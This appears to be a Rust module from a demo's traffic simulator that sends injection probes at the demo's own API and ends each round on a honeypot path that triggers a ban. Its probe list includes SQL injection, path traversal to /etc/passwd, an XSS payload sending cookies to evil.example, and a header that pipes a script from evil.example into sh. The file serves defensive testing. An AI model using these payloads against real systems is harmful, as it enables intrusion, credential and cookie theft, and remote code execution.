//! Injection attempts: SQL injection, cross-site scripting, command
//! injection and path traversal, in the query, in JSON bodies and in
//! headers, one a second; each round ends on a path only attackers ask for
//! (`/admin/backup`, the demo's honeypot) and one more request, which the
//! ban the honeypot earned refuses. A round is sent from a new address.

use super::client::Call;
use super::tally::Tally;
use super::{Actor, Stage};
use http::Method;
use serde_json::{json, Value};
use std::sync::Arc;
use std::time::Duration;

const PAUSE: Duration = Duration::from_secs(1);
const ROUND_PAUSE: Duration = Duration::from_secs(10);
/// Where each round ends, and what the attacker asks next.
const HONEYPOT: &str = "/admin/backup";
const AFTER_HONEYPOT: &str = "/api/users?page=1";

/// One attempt: where the payload goes.
pub(super) struct Probe {
    pub what: &'static str,
    pub method: Method,
    pub target: &'static str,
    pub headers: &'static [(&'static str, &'static str)],
    pub json: Option<Value>,
}

fn get(what: &'static str, target: &'static str) -> Probe {
    Probe {
        what,
        method: Method::GET,
        target,
        headers: &[],
        json: None,
    }
}

fn post(what: &'static str, target: &'static str, json: Value) -> Probe {
    Probe {
        what,
        method: Method::POST,
        target,
        headers: &[],
        json: Some(json),
    }
}

/// The attempts of one round, in order.
pub(super) fn probes() -> Vec<Probe> {
    vec![
        get(
            "SQL injection in the query",
            "/api/products?q=%27%20OR%201%3D1--",
        ),
        get(
            "UNION-based SQL injection in the query",
            "/api/products?q=x%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--",
        ),
        post(
            "SQL injection in a JSON login",
            "/api/login",
            json!({ "email": "admin@example.com' OR '1'='1' -- ", "password": "x" }),
        ),
        post(
            "stored XSS in a JSON sign-up",
            "/api/users",
            json!({
                "name": "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
                "email": "mallory@example.net",
                "password": "hunter2hunter2",
            }),
        ),
        get(
            "reflected XSS in the query",
            "/api/products?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        ),
        post(
            "command injection in a JSON body",
            "/api/password-reset",
            json!({ "email": "a@example.com; cat /etc/passwd" }),
        ),
        Probe {
            headers: &[(
                "referer",
                "https://shop.example/$(curl -s http://evil.example/x.sh | sh)",
            )],
            ..get("command injection in a header", "/api/products?q=lamp")
        },
        get(
            "path traversal in the query",
            "/api/products?q=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
        ),
        get(
            "path traversal in the path",
            "/api/users/..%2F..%2Fetc%2Fpasswd",
        ),
    ]
}

pub(super) async fn run(stage: Stage, tally: Arc<Tally>) {
    let mut visitor = stage.visitor(Actor::Injection.address(10), "curl/8.5.0", &tally);
    let probes = probes();
    for round in 0u64.. {
        visitor.move_to(Actor::Injection.address(10 + (round % 200) as u8));
        for probe in &probes {
            let answer = visitor
                .send(Call {
                    method: probe.method.clone(),
                    target: probe.target,
                    token: None,
                    headers: probe.headers,
                    json: probe.json.as_ref(),
                })
                .await;
            tracing::debug!(
                probe = probe.what,
                status = answer.map(|a| a.status),
                "traffic simulator: injection"
            );
            tokio::time::sleep(stage.pause(PAUSE)).await;
        }
        visitor.get(HONEYPOT, None).await;
        tokio::time::sleep(stage.pause(PAUSE)).await;
        // The fake answer looked real: back for more, banned by now.
        visitor.get(AFTER_HONEYPOT, None).await;
        tokio::time::sleep(stage.pause(ROUND_PAUSE)).await;
    }
}
